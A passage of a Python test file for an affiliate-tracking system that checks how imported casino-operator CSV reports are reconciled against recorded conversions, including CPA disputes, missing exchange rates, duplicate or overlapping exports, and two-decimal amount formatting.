    item = items_by_player(client, rec["id"])["P-usd"]
    assert item["kind"] == "amount_differs" and f"EUR→USD {month}: no rate" in item["evidence"]["rates"]

    refused = client.http.post(f"/api/reconciliations/items/{item['id']}/accept", headers=client.auth)

    assert refused.status_code == 409 and "record the month's exchange rate" in refused.text
    assert sorted(c["event"] for c in client.items("/conversions", player_id="P-usd")) == [
        "first_deposit",
        "registration",
    ]


def cpa_rejected_by_hand(
    client: Client, world: World, player_id: str, first_deposit: str
) -> tuple[str, dict[str, Any]]:
    """A player of Alice's who qualified on `first_deposit`, whose CPA a person has rejected since
    (a dispute): the player's click ID and the CPA conversion."""
    clicked = player(client, world, player_id, world.alice_casino, first_deposit)
    (cpa,) = client.items("/conversions", player_id=player_id, event="qualified_cpa")
    body = {"status": "rejected", "reason": "fraud check"}
    answer = client.http.post(f"/api/conversions/{cpa['id']}/status", json=body, headers=client.auth)
    assert answer.status_code == 200
    return clicked, cpa


def test_a_cpa_the_operator_paid_is_approved_again_and_one_the_rules_never_granted_is_refused(
    client: Client, world: World, receiver: Receiver
) -> None:
    client.api("PUT", f"/offers/{world.casino['id']}/deal", json=CPA_100)
    add_template(client, world, receiver.url("/pb?e={event}&st={status}"), events=["qualified_cpa"])
    today = datetime.now(UTC).date()
    day, month = today.strftime("%d.%m.%Y"), today.strftime("%Y-%m")
    # P-again qualified; a person rejected the CPA since (a dispute the operator has now paid).
    again, cpa = cpa_rejected_by_hand(client, world, "P-again", "25")
    # P-small's first deposit is under the deal's 20: clickback never granted the CPA.
    small = player(client, world, "P-small", world.alice_casino, "10")
    # One conversion's deliveries to one tracker go in the order they were made (docs/outbound.md).
    assert [d.target for d in receiver.deliveries(2)] == [
        "/pb?e=qualified_cpa&st=approved",
        "/pb?e=qualified_cpa&st=rejected",
    ]
    (before,) = client.api("GET", f"/statements/{world.alice['id']}/{month}")["lines"]
    assert (before["cpa_reversals"], Decimal(before["cpa_earnings"])) == (1, 0)

    data = myaffiliates_csv(
        [
            ["P-again", again, day, day, "25,00", "", "100,00", "", "EUR"],
            ["P-small", small, day, day, "10,00", "", "100,00", "", "EUR"],
        ]
    )
    rec = imported(client, data, "paid.csv", world.northstar["id"], period=month)["reconciliation"]
    items = items_by_player(client, rec["id"])
    assert {p: it["kind"] for p, it in items.items()} == {
        "P-again": "cpa_disagrees",
        "P-small": "cpa_disagrees",
    }
    assert items["P-again"]["evidence"]["qualification"]["operator"] == "paid"
    assert [c["held"] for c in items["P-again"]["evidence"]["rule_checks"]] == [True, True]
    assert items["P-small"]["evidence"]["rule_checks"][1] == {
        "rule": "first deposit ≥ 20.00 EUR",
        "held": False,
        "on": None,
        "detail": "not held: 10.00 EUR",
    }

    def accept(name: str) -> httpx.Response:
        return client.http.post(f"/api/reconciliations/items/{items[name]['id']}/accept", headers=client.auth)

    # The operator paid it: the qualified_cpa conversion approved again, the CPA booked again.
    paid = accept("P-again")
    assert paid.status_code == 200, paid.text
    assert [(c["conversion_id"], c["event"], c["status"], c["problem"]) for c in paid.json()["changes"]] == [
        (cpa["id"], "qualified_cpa", "approved", "")
    ]
    (after,) = client.api("GET", f"/statements/{world.alice['id']}/{month}")["lines"]
    assert Decimal(after["cpa_earnings"]) == 100
    assert sorted(d.target for d in receiver.deliveries(3)) == [
        "/pb?e=qualified_cpa&st=approved",
        "/pb?e=qualified_cpa&st=approved",
        "/pb?e=qualified_cpa&st=rejected",
    ]
    history = client.api("GET", f"/conversions/{cpa['id']}")["history"]
    assert [h["to_status"] for h in history][-2:] == ["rejected", "approved"]
    assert (
        f"reconciliation {rec['id']} item {items['P-again']['id']} (paid.csv, lines 2)"
        in history[-1]["reason"]
    )

    # The rules never held for P-small: nothing is booked, and the refusal names the rule.
    refused = accept("P-small")
    assert refused.status_code == 409
    assert "not held: first deposit ≥ 20.00 EUR: not held: 10.00 EUR" in refused.json()["detail"]
    assert client.items("/conversions", player_id="P-small", event="qualified_cpa") == []


def test_a_cpa_disputed_after_the_deal_raised_its_minimum_is_judged_by_the_rules_it_was_booked_under(
    client: Client, world: World
) -> None:
    """P-again qualified on a first deposit of 25 against a minimum of 20; a person rejected the
    CPA; the deal now asks 100. The operator paid it: the evidence checks the rules the CPA was
    booked under (both held), and accepting it books it again at the amount it was booked at."""
    client.api("PUT", f"/offers/{world.casino['id']}/deal", json=CPA_100)
    today = datetime.now(UTC).date()
    day, month = today.strftime("%d.%m.%Y"), today.strftime("%Y-%m")
    again, _ = cpa_rejected_by_hand(client, world, "P-again", "25")
    client.api("PUT", f"/offers/{world.casino['id']}/deal", json={"cpa": {"amount": "150", "ftd_min": "100"}})

    data = myaffiliates_csv([["P-again", again, day, day, "25,00", "", "100,00", "", "EUR"]])
    rec = imported(client, data, "paid.csv", world.northstar["id"], period=month)["reconciliation"]

    (item,) = items_by_player(client, rec["id"]).values()
    assert item["kind"] == "cpa_disagrees"
    assert item["evidence"]["qualification"]["rules"] == "CPA 100.00 EUR; registration; first deposit ≥ 20.00"
    assert [(c["rule"], c["held"]) for c in item["evidence"]["rule_checks"]] == [
        ("registration", True),
        ("first deposit ≥ 20.00 EUR", True),
    ]
    paid = client.http.post(f"/api/reconciliations/items/{item['id']}/accept", headers=client.auth)
    assert paid.status_code == 200, paid.text
    (after,) = client.api("GET", f"/statements/{world.alice['id']}/{month}")["lines"]
    assert Decimal(after["cpa_earnings"]) == 100


def test_a_report_saved_again_compares_the_lines_imported_before_and_changes_nothing(
    client: Client, world: World
) -> None:
    """The same export saved again (Windows line ends turned Unix: not the same bytes) imports
    none of its lines, yet they are still the operator's figures for the players it names: each
    is compared on them, and nothing is rejected or reversed for a player whose figures agree."""
    client.api("PUT", f"/offers/{world.casino['id']}/deal", json=CPA_100)
    today = datetime.now(UTC).date()
    day, month = today.strftime("%d.%m.%Y"), today.strftime("%Y-%m")
    codes = {name: player(client, world, name, world.alice_casino, "50") for name in ("P-1", "P-2")}
    data = myaffiliates_csv(
        [[name, code, day, day, "50,00", "", "100,00", "", "EUR"] for name, code in codes.items()]
    )
    first = imported(client, data, "november.csv", world.northstar["id"], period=month)["reconciliation"]
    resaved = imported(
        client, data.replace(b"\r\n", b"\n"), "november-unix.csv", world.northstar["id"], period=month
    )
    rec = resaved["reconciliation"]
    assert resaved["duplicate"] is False and (rec["imported"], rec["skipped"]) == (0, 2)
    for r in (first, rec):
        items = items_by_player(client, r["id"])
        assert {p: it["kind"] for p, it in items.items()} == dict.fromkeys(codes, "matched")
        assert [(it["lines"], Decimal(it["difference"])) for it in items.values()] == [([2], 0), ([3], 0)]
    (summary,) = rec["summary"]
    assert (Decimal(summary["operator_total"]), Decimal(summary["clickback_total"])) == (200, 200)

    for it in items_by_player(client, rec["id"]).values():
        reply = client.http.post(f"/api/reconciliations/items/{it['id']}/accept", headers=client.auth)
        assert reply.status_code == 409 and "no figure" in reply.text
    (line,) = client.api("GET", f"/statements/{world.alice['id']}/{month}")["lines"]
    assert (line["players"], line["ftds"], line["qualified_cpas"], line["cpa_reversals"]) == (2, 2, 2, 0)
    for name in codes:
        assert {c["status"] for c in client.items("/conversions", player_id=name)} <= {"pending", "approved"}


def test_an_overlapping_export_compares_a_player_on_every_line_it_holds_and_books_nothing_twice(
    client: Client, world: World
) -> None:
    """The operator's next export repeats the lines of the last one and adds new ones: a player
    is compared on all of them (those skipped as imported before too). A difference accepted from
    the first file is not booked again from the second, nor one accepted from the second again
    from the first."""
    month = datetime.now(UTC).strftime("%Y-%m")
    codes = {
        "P-two": player(client, world, "P-two", world.alice_casino, "50", deposit="30"),  # 80 in two lines
        "P-old": player(client, world, "P-old", world.alice_casino, "50"),  # only in the repeated line
        "P-once": player(client, world, "P-once", world.alice_casino, "50"),  # 70: accepted from file 1
        "P-later": player(client, world, "P-later", world.alice_casino, "50"),  # 70: accepted from file 2
    }
    header = "Player ID,BTAG,Deposits,Currency\r\n"
    repeated = "".join(
        f"{name},{codes[name]},{amount},EUR\r\n"
        for name, amount in (
            ("P-two", "50.00"),
            ("P-old", "50.00"),
            ("P-once", "70.00"),
            ("P-later", "70.00"),
        )
    )
    first = imported(client, (header + repeated).encode(), "week1.csv", world.northstar["id"], period=month)
    items1 = items_by_player(client, first["reconciliation"]["id"])
    assert {p: it["kind"] for p, it in items1.items()} == {
        "P-two": "amount_differs",  # 50 of clickback's 80 so far
        "P-old": "matched",
        "P-once": "amount_differs",
        "P-later": "amount_differs",
    }

    def accept(item: dict[str, Any]) -> httpx.Response:
        return client.http.post(f"/api/reconciliations/items/{item['id']}/accept", headers=client.auth)

    once = accept(items1["P-once"])
    assert once.status_code == 200, once.text
    assert [(p["event"], p["result"]) for p in once.json()["postbacks"]] == [("deposit", "accepted")]

    text = header + repeated + f"P-two,{codes['P-two']},30.00,EUR\r\n"
    second = imported(client, text.encode(), "week2.csv", world.northstar["id"], period=month)
    rec = second["reconciliation"]
    assert (rec["imported"], rec["skipped"]) == (1, 4)
    items2 = items_by_player(client, rec["id"])
    assert {p: (it["kind"], it["lines"], it["operator"]["deposits"]) for p, it in items2.items()} == {
        "P-two": ("matched", [2, 6], "80.00"),
        "P-old": ("matched", [3], "50.00"),
        "P-once": ("matched", [4], "70.00"),  # the deposit accepted from the first file counts
        "P-later": ("amount_differs", [5], "70.00"),
    }
    for name in ("P-two", "P-old", "P-once"):
        reply = accept(items2[name])
        assert reply.status_code == 409 and "no figure" in reply.text, reply.text
    later = accept(items2["P-later"])
    assert later.status_code == 200, later.text
    assert [(p["event"], p["result"]) for p in later.json()["postbacks"]] == [("deposit", "accepted")]
    # The first file's item, compared before the second's was accepted: nothing is left to book.
    again = accept(items1["P-later"])
    assert again.status_code == 409 and "no event would bring" in again.text, again.text
    assert "accepted by bootstrap key already" in accept(items1["P-once"]).text

    def deposited(name: str) -> Decimal:
        conversions = client.items("/conversions", player_id=name)
        assert {c["status"] for c in conversions} <= {"pending", "approved"}
        return sum((Decimal(c["payout"]) for c in conversions if "deposit" in c["event"]), Decimal(0))

    assert {name: deposited(name) for name in codes} == {
        "P-two": 80,
        "P-old": 50,
        "P-once": 70,
        "P-later": 70,
    }


def test_a_reconciliations_amounts_are_shown_with_their_currencys_decimals(
    client: Client, world: World
) -> None:
    """Every amount of the API's reconciliation (summary, items' figures on both sides, the
    difference, causes, the evidence's conversions, ledger entries and differences) and of its CSV
    is shown as amounts are everywhere (docs/commissions.md, Rounding): EUR with 2 decimals."""
    client.api("PUT", f"/offers/{world.casino['id']}/deal", json=CPA_100)
    month = datetime.now(UTC).strftime("%Y-%m")
    code = player(client, world, "P-cb", world.alice_casino, "100", chargeback="30")
    text = f"Player ID,BTAG,Deposits,NGR,CPA,Currency\r\nP-cb,{code},70,12.5,112.5,EUR\r\n"
    rec = imported(client, text.encode(), "eur.csv", world.northstar["id"], period=month)["reconciliation"]
    body = client.api("GET", f"/reconciliations/{rec['id']}")
    amounts: list[str] = []
    for s in body["reconciliation"]["summary"]:
        amounts += [s["operator_total"], s["clickback_total"], s["difference"], *s["explained"].values()]
    (item,) = body["items"]["items"]
    assert item["kind"] == "amount_differs"
    assert (item["difference"], item["clickback"]["deposits"], item["clickback"]["chargebacks"]) == (
        "12.50",
        "100.00",
        "30.00",
    )
    amounts += [item["difference"], *(c["amount"] for c in item["causes"])]
    amounts += [
        v for k, v in item["operator"].items() if k not in ("tracking_code", "registered_on", "ftd_on") and v
    ]
    amounts += [
        item["clickback"][k] for k in ("ftd_amount", "deposits", "chargebacks", "ngr", "cpa", "revshare")
    ]
    for figures in item["evidence"]["differences"].values():
        amounts += figures.values()
    amounts += [c["payout"] for c in item["evidence"]["conversions"] if c["payout"] is not None]
    amounts += [e["amount"] for e in item["evidence"]["ledger"]]
    assert amounts and [a for a in amounts if len(a.partition(".")[2]) != 2] == []
    exported = client.http.get(f"/api/reconciliations/{rec['id']}.csv", headers=client.auth)
    (row,) = csv.DictReader(io.StringIO(exported.text))
    assert (row["difference"], row["clickback_deposits"], row["clickback_cpa"], row["operator_ngr"]) == (
        "12.50",
        "100.00",
        "100.00",
        "12.50",
    )
